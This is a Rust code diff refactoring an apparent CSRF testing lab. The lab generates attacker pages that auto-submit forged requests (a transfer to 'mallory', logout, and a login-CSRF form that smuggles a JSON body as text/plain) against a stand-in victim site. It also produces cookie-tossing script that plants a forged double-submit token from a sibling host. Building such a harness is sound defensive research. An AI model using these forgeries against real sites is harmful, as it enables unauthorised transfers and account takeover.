@@ -7,49 +7,33 @@ use axum::{
     http::StatusCode,
     response::{Html, IntoResponse, Response},
 };
-use lab_types::{Guard, Place, Source, Strategy, Threat, Vector};
+use lab_types::{CellId, CsrfDefence, RequestSource, Strategy, Threat, Vector};
 use serde::Deserialize;
 use serde_json::json;
 
-use super::Doors;
 use crate::{
-    Lab,
-    guarded::{self, MADE_UP},
+    accounts::Credentials,
     plan,
-    recorder::Of,
-    runs::Person,
+    run::Run,
+    scope::{EvidenceScope, Existing},
+    state::Lab,
+    targets::{DOUBLE_SUBMIT_COOKIE, FORGED_TOKEN, TOSSED_PATH, VictimEndpoints, csrf_endpoint},
 };
 
-const UNSEEN: &str = include_str!("../assets/attacks/unseen.js");
-
-#[derive(Debug, Deserialize)]
-pub struct At {
-    at: usize,
-}
-
-#[derive(Debug, Deserialize)]
-pub struct From {
-    source: Source,
-}
+const BACKGROUND_SCRIPT: &str = include_str!("../assets/attacks/unseen.js");
 
 /// A page of the attacker that submits a form, or follows a link, as soon as it is loaded.
-pub async fn navigation(
-    State(lab): State<Arc<Lab>>,
-    Query(of): Query<Of>,
-    Query(At { at }): Query<At>,
-) -> Response {
-    let (Some(run), Some(cell)) = (of.run(&lab), of.cell()) else {
-        return StatusCode::NOT_FOUND.into_response();
-    };
+pub async fn navigation(State(lab): State<Arc<Lab>>, scope: EvidenceScope) -> Response {
+    let EvidenceScope { run, cell, step } = scope;
     let victim = &lab.sites.victim;
     let host = victim.host().to_string();
-    let query = format!("run={}&cell={cell}&at={at}", run.id);
+    let query = format!("run={}&cell={cell}&at={}", run.id, step.unwrap_or_default());
     let markup = match cell {
-        Place::Storage { strategy, threat } => {
-            let attacker = run.people.attacker(strategy);
+        CellId::Storage { strategy, threat } => {
+            let attacker = run.accounts.attacker(strategy);
             storage_form(threat, strategy, victim.as_str(), &query, &attacker)
         }
-        Place::Forgery {
+        CellId::Forgery {
             guard,
             source,
             vector,
@@ -59,7 +43,7 @@ pub async fn navigation(
                 None => markup,
             }
         }),
-        Place::Script { .. } | Place::Race { .. } => None,
+        CellId::Script { .. } | CellId::Race { .. } => None,
     };
     match markup {
         Some(markup) => page(
@@ -70,35 +54,39 @@ pub async fn navigation(
     }
 }
 
+#[derive(Debug, Deserialize)]
+pub struct BackgroundQuery {
+    at: usize,
+    source: RequestSource,
+}
+
 /// A page that sends everything that works in the background, and then returns to the runner.
-pub async fn unseen(
+pub async fn background(
     State(lab): State<Arc<Lab>>,
-    Query(of): Query<Of>,
-    Query(At { at }): Query<At>,
-    Query(From { source }): Query<From>,
+    Existing(run): Existing<Run>,
+    Query(BackgroundQuery { at, source }): Query<BackgroundQuery>,
 ) -> Response {
-    let Some(run) = of.run(&lab) else {
-        return StatusCode::NOT_FOUND.into_response();
-    };
     let victim = &lab.sites.victim;
-    let requests = plan::unseen().map(|(guard, vector)| {
-        let cell = Place::Forgery {
+    let requests = plan::background_requests().map(|(guard, vector)| {
+        let cell = CellId::Forgery {
             guard,
             source,
             vector,
         };
         let query = format!("run={}&cell={cell}", run.id);
-        json!({ "vector": vector, "address": format!("{victim}{}?{query}", guarded::door(guard)) })
+        json!({ "vector": vector, "address": format!("{victim}{}?{query}", csrf_endpoint(guard)) })
     });
     let orders = json!({
         "requests": requests.collect::<Vec<_>>(),
         "body": body(),
         "next": format!("{victim}/play?run={}&at={}", run.id, at + 1),
     });
-    let toss = toss(Guard::DoubleSubmit, source, &victim.host().to_string()).unwrap_or_default();
+    let toss = toss(CsrfDefence::DoubleSubmit, source, &victim.host().to_string()).unwrap_or_default();
     page(
         "The attacker’s page sends requests in the background.",
-        &format!("<script>{toss}\nconst orders = {orders};\n</script><script type=module>{UNSEEN}</script>"),
+        &format!(
+            "<script>{toss}\nconst orders = {orders};\n</script><script type=module>{BACKGROUND_SCRIPT}</script>"
+        ),
     )
 }
 
@@ -110,46 +98,47 @@ fn page(says: &str, markup: &str) -> Response {
 }
 
 /// The code of a cell's forgery, for readers of the evidence.
-pub fn code(place: Place) -> Option<String> {
+pub fn code(cell: CellId) -> Option<String> {
     let (victim, query) = ("https://victim.example", "…");
-    match place {
-        Place::Storage { strategy, threat } => {
-            let someone = Person {
+    match cell {
+        CellId::Storage { strategy, threat } => {
+            let attacker = Credentials {
                 email: "mallory@…".into(),
                 password: "…".into(),
             };
-            storage_form(threat, strategy, victim, query, &someone)
+            storage_form(threat, strategy, victim, query, &attacker)
         }
-        Place::Forgery {
+        CellId::Forgery {
             guard,
             source,
             vector,
         } => {
             let sent = navigating(guard, vector, victim, query).unwrap_or_else(|| {
-                let (door, body) = (guarded::door(guard), body());
-                format!("// {}: {victim}{door}, {body}\n{UNSEEN}", vector.slug())
+                let (endpoint, body) = (csrf_endpoint(guard), body());
+                format!(
+                    "// {}: {victim}{endpoint}, {body}\n{BACKGROUND_SCRIPT}",
+                    vector.slug()
+                )
             });
             let before = toss(guard, source, "victim.example");
             Some(before.map(|script| script + "\n").unwrap_or_default() + &sent)
         }
-        Place::Script { .. } | Place::Race { .. } => None,
+        CellId::Script { .. } | CellId::Race { .. } => None,
     }
 }
 
 /// A host below the victim's can set cookies for the victim's host as well. With a longer path than the genuine cookie
 /// it is sent first, and most servers use the first cookie of a name.
-fn toss(guard: Guard, source: Source, victim: &str) -> Option<String> {
-    (guard == Guard::DoubleSubmit && source == Source::Sibling).then(|| {
+fn toss(guard: CsrfDefence, source: RequestSource, victim: &str) -> Option<String> {
+    (guard == CsrfDefence::DoubleSubmit && source == RequestSource::Sibling).then(|| {
         format!(
-            "document.cookie = \"{}={MADE_UP}; Domain={victim}; Path={}; Secure; SameSite=None\";",
-            guarded::DOUBLE,
-            guarded::TOSSED_PATH
+            "document.cookie = \"{DOUBLE_SUBMIT_COOKIE}={FORGED_TOKEN}; Domain={victim}; Path={TOSSED_PATH}; Secure; SameSite=None\";"
         )
     })
 }
 
 fn body() -> String {
-    format!("amount=100&to=mallory&csrf={MADE_UP}")
+    format!("amount=100&to=mallory&csrf={FORGED_TOKEN}")
 }
 
 fn field(name: &str, value: &str) -> String {
@@ -167,9 +156,9 @@ const URL_ENCODED: &str = "application/x-www-form-urlencoded";
 const PLAIN: &str = "text/plain";
 
 /// The markup that navigates the visitor; `None` for what happens in the background.
-fn navigating(guard: Guard, vector: Vector, victim: &str, query: &str) -> Option<String> {
-    let address = format!("{victim}{}?{query}", guarded::door(guard));
-    let fields = field("amount", "100") + &field("to", "mallory") + &field("csrf", MADE_UP);
+fn navigating(guard: CsrfDefence, vector: Vector, victim: &str, query: &str) -> Option<String> {
+    let address = format!("{victim}{}?{query}", csrf_endpoint(guard));
+    let fields = field("amount", "100") + &field("to", "mallory") + &field("csrf", FORGED_TOKEN);
     match vector {
         Vector::Form => Some(form(&address, URL_ENCODED, &fields)),
         Vector::TextForm => Some(form(&address, PLAIN, &fields)),
@@ -187,59 +176,59 @@ fn storage_form(
     strategy: Strategy,
     victim: &str,
     query: &str,
-    attacker: &Person,
+    attacker: &Credentials,
 ) -> Option<String> {
-    let doors = Doors::of(strategy);
-    let Person { email, password } = attacker;
-    let (door, fields, enctype) = match threat {
+    let endpoints = VictimEndpoints::of(strategy);
+    let Credentials { email, password } = attacker;
+    let (endpoint, fields, enctype) = match threat {
         Threat::CsrfChange => (
-            doors.transfer,
+            endpoints.transfer,
             field("amount", "100") + &field("to", "mallory"),
             URL_ENCODED,
         ),
-        Threat::CsrfLogout => (doors.logout, String::new(), URL_ENCODED),
+        Threat::CsrfLogout => (endpoints.logout, String::new(), URL_ENCODED),
         // A server that expects JSON may accept a form whose body looks like JSON.
         Threat::CsrfLogin if strategy == Strategy::Keyturn => {
             let name = format!(r#"{{"email":"{email}","password":"{password}","remember":true,"x":""#);
-            (doors.login, field(&name, r#""}"#), PLAIN)
+            (endpoints.login, field(&name, r#""}"#), PLAIN)
         }
         Threat::CsrfLogin => (
-            doors.login,
+            endpoints.login,
             field("email", email) + &field("password", password),
             URL_ENCODED,
         ),
         _ => return None,
     };
-    Some(form(&format!("{victim}{door}?{query}"), enctype, &fields))
+    Some(form(&format!("{victim}{endpoint}?{query}"), enctype, &fields))
 }
 
 #[cfg(test)]
 mod tests {
-    use lab_types::Bench;
+    use lab_types::Experiment;
 
     use super::*;
 
     #[test]
-    fn every_forgery_has_its_code_and_only_a_sibling_s_tosses_cookies() {
-        for place in Bench::Forgery.rows().concat() {
-            let code = code(place).expect("an attack");
+    fn only_a_sibling_tosses_cookies() {
+        for cell in Experiment::Forgery.rows().concat() {
+            let code = code(cell).expect("an attack");
             let tosses = matches!(
-                place,
-                Place::Forgery {
-                    guard: Guard::DoubleSubmit,
-                    source: Source::Sibling,
+                cell,
+                CellId::Forgery {
+                    guard: CsrfDefence::DoubleSubmit,
+                    source: RequestSource::Sibling,
                     ..
                 }
             );
-            assert_eq!(code.contains("document.cookie"), tosses, "{place}");
+            assert_eq!(code.contains("document.cookie"), tosses, "{cell}");
         }
     }
 
     #[test]
-    fn what_needs_no_page_of_its_own_is_sent_in_the_background() {
+    fn background_requests_need_no_navigation() {
         for vector in Vector::ALL {
-            let seen = navigating(Guard::None, *vector, "https://victim.example", "").is_some();
-            assert_ne!(seen, plan::UNSEEN.contains(vector), "{}", vector.slug());
+            let seen = navigating(CsrfDefence::None, *vector, "https://victim.example", "").is_some();
+            assert_ne!(seen, plan::BACKGROUND.contains(vector), "{}", vector.slug());
         }
     }
 }
